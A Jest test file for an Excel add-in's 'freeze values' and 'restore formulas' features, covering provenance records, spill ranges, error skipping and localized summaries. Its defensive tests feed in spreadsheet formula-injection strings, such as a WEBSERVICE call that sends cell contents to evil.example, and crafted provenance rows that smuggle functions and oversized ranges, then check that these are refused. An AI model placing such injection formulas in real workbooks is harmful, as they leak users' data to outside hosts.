// taskpane/excel/freeze: Freeze values records provenance; Restore formulas puts them back.

jest.mock("office-addin-manifest", () => ({ OfficeApp: { Excel: "excel", Outlook: "outlook" } }));

import { block, closeWorkbook, openWorkbook } from "./standin-workbook";
import {
  errorIn,
  freezeFormulas,
  restoreFormulas,
  PROVENANCE_HEADER,
  valuesDigest,
  type FreezeResult,
} from "../../taskpane/excel/freeze";
import { freezeSummary, restoreSummary } from "../../taskpane/state/freeze-summary";
import { translator } from "../../taskpane/i18n/messages";

/** A host with ExcelApi up to `version` (Office.context.requirements). */
function installOffice(version: string): void {
  (globalThis as { Office?: unknown }).Office = {
    context: {
      requirements: {
        isSetSupported: (name: string, v: string) =>
          name === "ExcelApi" && Number(v.split(".")[1]) <= Number(version.split(".")[1]),
      },
    },
  };
}

beforeEach(() => installOffice("1.16"));
afterEach(() => {
  closeWorkbook();
  delete (globalThis as { Office?: unknown }).Office;
});

const NOW = new Date("2026-11-21T03:00:00Z"); // 12:00 JST

/** The digest freeze records for a range of `rows` x `cols` empty cells (a blank sheet's). */
function blankDigest(rows: number, cols: number): string {
  return valuesDigest(Array.from({ length: rows }, () => Array.from({ length: cols }, () => "")));
}

test("freezeFormulas(selection): writes values over a spilled formula and records it on KaishaProvenance", async () => {
  const fake = await openWorkbook({
    sheets: [
      {
        name: "Model",
        cells: {
          A2: { value: "x" },
          B2: {
            formula: '=KAISHA.VALUATION("7203","fiscal_year,per")',
            spill: [
              ["fiscal_year", "per"],
              ["2025/03", 12.5],
            ],
          },
        },
      },
    ],
    selection: "Model!A2:B2",
  });
  const result = await freezeFormulas("selection", "KAISHA / api.irbank.net", NOW);
  expect(result).toEqual({ frozen: 1, cells: ["Model!B2"], skipped: [] });
  // The whole spill range gets its own values, which replaces the formula.
  expect(fake.values("Model", "B2:C3")).toEqual([
    ["fiscal_year", "per"],
    ["2025/03", 12.5],
  ]);
  expect(fake.formulas("Model", "B2")).toEqual([["fiscal_year"]]);
  expect(fake.sheetNames()).toEqual(["Model", "KaishaProvenance"]);
  expect(fake.values("KaishaProvenance", "A1:H1")).toEqual([[...PROVENANCE_HEADER]]);
  expect(fake.formats("KaishaProvenance", "A2:H2")[0]?.[1]).toBe("@"); // the formula is kept as text
  expect(fake.values("KaishaProvenance", "A2:H2")[0]).toEqual([
    "Model!B2",
    '=KAISHA.VALUATION("7203","fiscal_year,per")',
    "B2:C3",
    expect.closeTo(46347.5, 5), // 2026-11-21 12:00 JST
    "KAISHA / api.irbank.net",
    "frozen",
    "",
    valuesDigest([
      ["fiscal_year", "per"],
      ["2025/03", 12.5],
    ]),
  ]);
});

test("freezeFormulas: a scope without KAISHA formulas changes nothing", async () => {
  const fake = await openWorkbook({
    sheets: [{ name: "S", cells: { A1: { formula: "=1+2", value: 3 } } }],
    selection: "S!A1",
  });
  expect(await freezeFormulas("selection", "KAISHA", NOW)).toEqual({
    frozen: 0,
    cells: [],
    skipped: [],
  });
  expect(fake.sheetNames()).toEqual(["S"]);
});

test("restoreFormulas(sheet): clears the frozen values, re-enters the formula, marks the record restored", async () => {
  const fake = await openWorkbook({
    active: "Model",
    sheets: [
      { name: "Model" },
      {
        name: "KaishaProvenance",
        cells: block("A1", [
          [...PROVENANCE_HEADER],
          [
            "Model!B2",
            '=KAISHA.VALUATION("7203")',
            "B2:C3",
            46347.5,
            "KAISHA",
            "frozen",
            "",
            blankDigest(2, 2),
          ],
          [
            "Other!A1",
            '=KAISHA.PRICE("7203")',
            "A1",
            46347.5,
            "KAISHA",
            "frozen",
            "",
            blankDigest(1, 1),
          ],
        ]),
      },
    ],
  });
  const result = await restoreFormulas("sheet", NOW);
  expect(result).toEqual({ frozen: 1, cells: ["Model!B2"], skipped: [], refused: [] });
  expect(fake.log).toContain("clear Model!B2:C3 Contents");
  expect(fake.formulas("Model", "B2")).toEqual([['=KAISHA.VALUATION("7203")']]);
  expect(fake.values("KaishaProvenance", "F2:G2")).toEqual([
    ["restored", expect.closeTo(46347.5, 5)],
  ]);
  // The other sheet's record is untouched.
  expect(fake.values("KaishaProvenance", "F3:G3")).toEqual([["frozen", ""]]);
});

test("freezeFormulas: cells inside a spill range are the anchor's output, recorded once", async () => {
  const formula = '=KAISHA.VALUATION("7203","fiscal_year,per")';
  await openWorkbook({
    sheets: [
      {
        name: "Model",
        cells: {
          B2: {
            formula,
            spill: [
              ["fiscal_year", "per"],
              ["2025/03", 12.5],
            ],
          },
        },
      },
    ],
    selection: "Model!B2:C3",
  });
  const result = await freezeFormulas("selection", "KAISHA", NOW);
  expect(result).toEqual({ frozen: 1, cells: ["Model!B2"], skipped: [] });
});

test("freezeFormulas: formulas in error, still calculating or with a blocked spill stay formulas and are listed", async () => {
  const fake = await openWorkbook({
    sheets: [
      {
        name: "Model",
        cells: {
          A1: { formula: '=KAISHA.FINANCIALS(7203,"sales")', spill: [["sales"], [100]] },
          B1: { formula: '=KAISHA.VALUATION(7203,"per")', spill: [["per"], ["#N/A"]] },
          // Single-cell results are read from the cell itself (no spill range).
          C1: { formula: '=KAISHA.FINANCIAL(7203,"sales")', value: "#BUSY!", error: "Busy" },
          D1: { formula: "=KAISHA.PRICES(7203)", value: "#SPILL!", error: "Spill" },
          E1: { formula: "=KAISHA.PRICE(7203)", value: "#GETTING_DATA", error: "GettingData" },
        },
      },
    ],
    selection: "Model!A1:E1",
  });
  const result = await freezeFormulas("selection", "KAISHA", NOW);
  expect(result.frozen).toBe(1);
  expect(result.cells).toEqual(["Model!A1"]);
  expect(result.skipped).toEqual([
    { address: "Model!B1", code: "#N/A", reason: "error" },
    { address: "Model!C1", code: "#BUSY!", reason: "calculating" },
    { address: "Model!D1", code: "#SPILL!", reason: "spill" },
    { address: "Model!E1", code: "#GETTING_DATA", reason: "calculating" },
  ]);
  // Only the good one is recorded on KaishaProvenance (one row: A2:H2).
  expect(fake.values("KaishaProvenance", "A2:H2")[0]?.[0]).toBe("Model!A1");
  expect(fake.values("KaishaProvenance", "A3:A5")).toEqual([[""], [""], [""]]);
});

test("freezeFormulas: a host without ExcelApi 1.12 (spill ranges) is told so and nothing changes", async () => {
  installOffice("1.11");
  const fake = await openWorkbook({
    sheets: [{ name: "S", cells: { A1: { formula: "=KAISHA.PRICE(7203)", value: 3 } } }],
    selection: "S!A1",
  });
  await expect(freezeFormulas("selection", "KAISHA", NOW)).rejects.toMatchObject({
    name: "ExcelApiMissingError",
    version: "1.12",
  });
  expect(fake.log).toEqual([]);
});

test("errorIn: text that merely starts with # is a value, not an error", () => {
  expect(errorIn([["#1 shareholder", 3]])).toBeUndefined();
  expect(errorIn([["ok", "#DIV/0!"]])).toEqual({ code: "#DIV/0!", reason: "error" });
});

test("freezeSummary: counts frozen and skipped formulas with their reasons, ja and en", () => {
  const result: FreezeResult = {
    frozen: 2,
    cells: ["S!A1", "S!A2"],
    skipped: [
      { address: "S!B1", code: "#BUSY!", reason: "calculating" },
      { address: "S!B2", code: "#N/A", reason: "error" },
      { address: "S!B3", code: "#VALUE!", reason: "error" },
    ],
  };
  const en = freezeSummary(result, translator("en"));
  expect(en.intent).toBe("warning");
  expect(en.text).toBe(
    "Froze 2 formulas (recorded on KaishaProvenance); left 3 as formulas (1 still calculating, 2 in error (#N/A, #VALUE!)): S!B1 (#BUSY!), S!B2 (#N/A), S!B3 (#VALUE!)",
  );
  expect(en.data).toEqual({ count: "2", skipped: "3" });
  const ja = freezeSummary({ ...result, frozen: 0, cells: [] }, translator("ja"));
  expect(ja.intent).toBe("warning");
  expect(ja.text).toContain("値に固定した数式はありません");
  expect(ja.text).toContain("計算中 1個、エラー 2個（#N/A, #VALUE!）");
  expect(freezeSummary({ frozen: 0, cells: [], skipped: [] }, translator("en")).intent).toBe(
    "info",
  );
  expect(freezeSummary({ frozen: 1, cells: ["S!A1"], skipped: [] }, translator("ja")).text).toBe(
    "1個の数式を値に固定しました（KaishaProvenance に記録）。",
  );
});

describe("freeze and restore never turn workbook text into formulas", () => {
  const hostile = [
    '=WEBSERVICE("https://evil.example/"&A1)',
    "-",
    "+5%",
    "@SUM(1)",
    "\t=1",
    "\r=1",
  ];

  test("freezeFormulas: a function's text results go back as Text, numbers keep their format", async () => {
    const fake = await openWorkbook({
      sheets: [
        {
          name: "Model",
          cells: {
            A2: { value: "x" },
            B2: {
              formula: '=KAISHA.OFFICERS("7203")',
              spill: hostile.map((text, i) => [text, i + 0.5]),
            },
          },
        },
      ],
      selection: "Model!A2:B2",
    });
    const result = await freezeFormulas("selection", "KAISHA", NOW);
    expect(result.frozen).toBe(1);
    // Written as values (no formulas in the batch), every string in a Text cell.
    expect(fake.values("Model", "B2:C7")).toEqual(hostile.map((text, i) => [text, i + 0.5]));
    expect(fake.formulas("Model", "B2:C7")).toEqual(hostile.map((text, i) => [text, i + 0.5]));
    for (const row of fake.formats("Model", "B2:C7")) expect(row[0]).toBe("@");
    for (const row of fake.formats("Model", "B2:C7")) expect(row[1]).not.toBe("@");
  });

  test("freezeFormulas: a KAISHA formula that also calls another function stays live and is listed", async () => {
    await openWorkbook({
      sheets: [
        {
          name: "Model",
          cells: {
            B2: { formula: '=KAISHA.PRICE(7203)+WEBSERVICE("https://evil.example")', value: 1 },
          },
        },
      ],
      selection: "Model!B2",
    });
    const result = await freezeFormulas("selection", "KAISHA", NOW);
    expect(result).toEqual({
      frozen: 0,
      cells: [],
      skipped: [{ address: "Model!B2", code: "WEBSERVICE", reason: "unrestorable" }],
    });
    const text = freezeSummary(result, translator("en")).text;
    expect(text).toContain("WEBSERVICE");
    expect(freezeSummary(result, translator("ja")).text).toContain("書き戻せない");
  });

  test("restoreFormulas: refuses smuggled functions, names, other sheets' and oversized ranges, and says which rows", async () => {
    const fake = await openWorkbook({
      active: "Model",
      sheets: [
        { name: "Model" },
        {
          name: "KaishaProvenance",
          cells: block("A1", [
            [...PROVENANCE_HEADER],
            [
              "Model!B2",
              '=KAISHA.PRICE(7203)+WEBSERVICE("https://evil.example/"&A1)',
              "B2",
              1,
              "K",
              "frozen",
              "",
            ],
            ["Model!B3", "=KAISHA.PRICE(Secret)", "B3", 1, "K", "frozen", "", blankDigest(1, 1)],
            ["Model!B4", '=KAISHA.PRICE("7203")', "Other!A1:Z99", 1, "K", "frozen", "", "x"],
            ["Model!B5", '=KAISHA.PRICE("7203")', "A1:XFD1048576", 1, "K", "frozen", "", "x"],
            ["Model!B6", "=SUM(A1:A3)", "B6", 1, "K", "frozen", "", blankDigest(1, 1)],
            ["Model!B7:C9", '=KAISHA.PRICE("7203")', "B7", 1, "K", "frozen", "", blankDigest(1, 1)],
            [
              "Model!B8",
              "=KAISHA.PRICE([Book2.xlsx]Sheet1!A1)",
              "B8",
              1,
              "K",
              "frozen",
              "",
              blankDigest(1, 1),
            ],
            [
              "Model!B9",
              '=KAISHA.PRICE("7203")',
              "B9:B10",
              1,
              "K",
              "frozen",
              "",
              blankDigest(2, 1),
            ],
          ]),
        },
      ],
    });
    const result = await restoreFormulas("sheet", NOW);
    expect(result.cells).toEqual(["Model!B9"]);
    expect(result.refused?.map((r) => [r.row, r.reason, r.detail])).toEqual([
      [2, "formula", "WEBSERVICE"],
      [3, "formula", "Secret"],
      [4, "range", "Other!A1:Z99"],
      [5, "range", "A1:XFD1048576"],
      [6, "formula", "(no KAISHA function)"],
      [7, "address", "Model!B7:C9"],
      [8, "formula", "["],
    ]);
    // Nothing of a refused record was cleared or written.
    expect(fake.log.filter((l) => l.startsWith("clear"))).toEqual(["clear Model!B9:B10 Contents"]);
    for (const cell of ["B2", "B3", "B4", "B5", "B6", "B8"]) {
      expect(fake.formulas("Model", cell)).toEqual([[""]]);
    }
    const en = restoreSummary(result, translator("en"));
    expect(en.intent).toBe("warning");
    expect(en.text).toContain("row 2 (Model!B2): calls WEBSERVICE");
    expect(en.text).toContain("row 5 (Model!B5): values range A1:XFD1048576");
    const ja = restoreSummary(result, translator("ja")).text;
    expect(ja).toContain("2行目（Model!B2）：WEBSERVICE を含む");
  });

  test("restoreFormulas: a values range that holds formulas is someone's work, not frozen values", async () => {
    const fake = await openWorkbook({
      active: "Model",
      sheets: [
        {
          name: "Model",
          cells: block("B2", [[1], [2], [3]], [[1], ["=A1*2"], [3]]),
        },
        {
          name: "KaishaProvenance",
          cells: block("A1", [
            [...PROVENANCE_HEADER],
            ["Model!B2", '=KAISHA.PRICE("7203")', "B2:B4", 1, "K", "frozen", "", blankDigest(3, 1)],
          ]),
        },
      ],
    });
    const result = await restoreFormulas("sheet", NOW);
    expect(result.frozen).toBe(0);
    expect(result.refused).toEqual([
      { row: 2, address: "Model!B2", reason: "range", detail: "B2:B4" },
    ]);
    expect(fake.log.some((l) => l.startsWith("clear"))).toBe(false);
  });

  test("restoreFormulas: a formula frozen from a Text cell comes back in General, so it calculates", async () => {
    const fake = await openWorkbook({
      active: "Model",
      sheets: [
        {
          name: "Model",
          cells: { B2: { value: "-", format: "@" } },
        },
        {
          name: "KaishaProvenance",
          cells: block("A1", [
            [...PROVENANCE_HEADER],
            [
              "Model!B2",
              '=KAISHA.COMPANY("7203","name")',
              "B2",
              1,
              "K",
              "frozen",
              "",
              valuesDigest([["-"]]),
            ],
          ]),
        },
      ],
    });
    const result = await restoreFormulas("sheet", NOW);
    expect(result.frozen).toBe(1);
    expect(fake.formats("Model", "B2")).toEqual([["General"]]);
    expect(fake.formulas("Model", "B2")).toEqual([['=KAISHA.COMPANY("7203","name")']]);
  });
});

test("freezeFormulas: text that merely reads like a KAISHA formula (an API name kept as text) is not frozen", async () => {
  const fake = await openWorkbook({
    sheets: [
      {
        name: "Model",
        cells: { A2: { value: "=KAISHA.USAGE()", format: "@" }, B2: { value: "x" } },
      },
    ],
    selection: "Model!A2:B2",
  });
  expect(fake.formulas("Model", "A2:B2")).toEqual([["=KAISHA.USAGE()", "x"]]);
  const result = await freezeFormulas("selection", "KAISHA", NOW);
  expect(result).toEqual({ frozen: 0, cells: [], skipped: [] });
  expect(fake.sheetNames()).toEqual(["Model"]);
});

test("restoreFormulas: a range that no longer holds exactly what freeze wrote (an analyst's edit, a crafted record) is refused and nothing is cleared", async () => {
  const fake = await openWorkbook({
    active: "Model",
    sheets: [
      {
        name: "Model",
        cells: block("B2", [[12.5], ["my note"]]),
      },
      {
        name: "KaishaProvenance",
        cells: block("A1", [
          [...PROVENANCE_HEADER],
          // Frozen as [[12.5], [13]]: B3 has been typed over since.
          [
            "Model!B2",
            '=KAISHA.PRICE("7203")',
            "B2:B3",
            1,
            "K",
            "frozen",
            "",
            valuesDigest([[12.5], [13]]),
          ],
        ]),
      },
    ],
  });
  const result = await restoreFormulas("sheet", NOW);
  expect(result.frozen).toBe(0);
  expect(result.refused).toEqual([
    { row: 2, address: "Model!B2", reason: "range", detail: "B2:B3" },
  ]);
  expect(fake.log.some((l) => l.startsWith("clear"))).toBe(false);
});
